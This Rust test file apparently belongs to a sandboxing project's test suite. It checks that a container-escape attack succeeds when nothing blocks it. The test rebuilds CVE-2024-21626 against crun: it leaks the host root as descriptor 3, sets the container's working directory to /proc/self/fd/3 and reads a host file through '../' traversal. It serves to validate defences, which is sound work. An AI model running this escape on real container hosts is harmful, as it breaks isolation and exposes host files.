//! The attacks of `escapes.rs` succeed where nobody stands in their way: what our cases try is not harmless by itself.
//!
//! In: Debian's crun, told to leave a door open. Out: the attack's own word of success. Never: a write outside of the world.

use super::world::World;
use serde_json::json;
use std::path::Path;
use std::process::Command;

/// CVE-2024-21626: with one descriptor left open, the very same script and working directory read the host's files. (This crun
/// enters the working directory before it closes what it was started with.)
pub async fn leaked_directory(world: World) {
    if !Path::new("/usr/bin/crun").exists() {
        println!("skipped: crun is missing (apt-get install crun)");
        return;
    }
    let witness = world.base.join("witness");
    std::fs::write(&witness, "host").unwrap();
    let bundle = world.base.join("bundle");
    for dir in ["proc", "dev", "sys", "etc", "tmp"] {
        std::fs::create_dir_all(bundle.join("rootfs").join(dir)).unwrap();
    }
    let copied = Command::new("cp").arg("-a").arg(world.base.join("layer/bin")).arg(bundle.join("rootfs")).status().unwrap();
    assert!(copied.success());
    let look = format!("cat {}{} && echo ESCAPED", "../".repeat(12), witness.strip_prefix("/").unwrap().display());
    let config = json!({
        "ociVersion": "1.0.2", "root": {"path": "rootfs"},
        "process": {
            "args": ["/bin/sh", "-c", look], "env": ["PATH=/bin"], "cwd": "/proc/self/fd/3", "user": {"uid": 0, "gid": 0}},
        "mounts": [{"destination": "/proc", "type": "proc", "source": "proc"}],
        "linux": {"namespaces": [{"type": "mount"}, {"type": "pid"}]},
    });
    std::fs::write(bundle.join("config.json"), config.to_string()).unwrap();
    // Some releases refuse a unified hierarchy beside the old ones; the mount is this world's own.
    let line = "umount -l /sys/fs/cgroup/unified 2>/dev/null; [ \"$2\" = open ] && exec 3</; cd \"$1\"; \
                exec crun --cgroup-manager=disabled --root state run --bundle . \"$2\"";
    let run = |id: &str| {
        let out = Command::new("sh").args(["-c", line, "sh"]).arg(&bundle).arg(id).output().unwrap();
        format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
    };
    let open = run("open");
    assert!(open.contains("host") && open.contains("ESCAPED"), "the attack does not even work without protection: {open}");
    let shut = run("shut");
    assert!(!shut.contains("ESCAPED") && shut.contains("/proc/self/fd/3"), "{shut}");
}
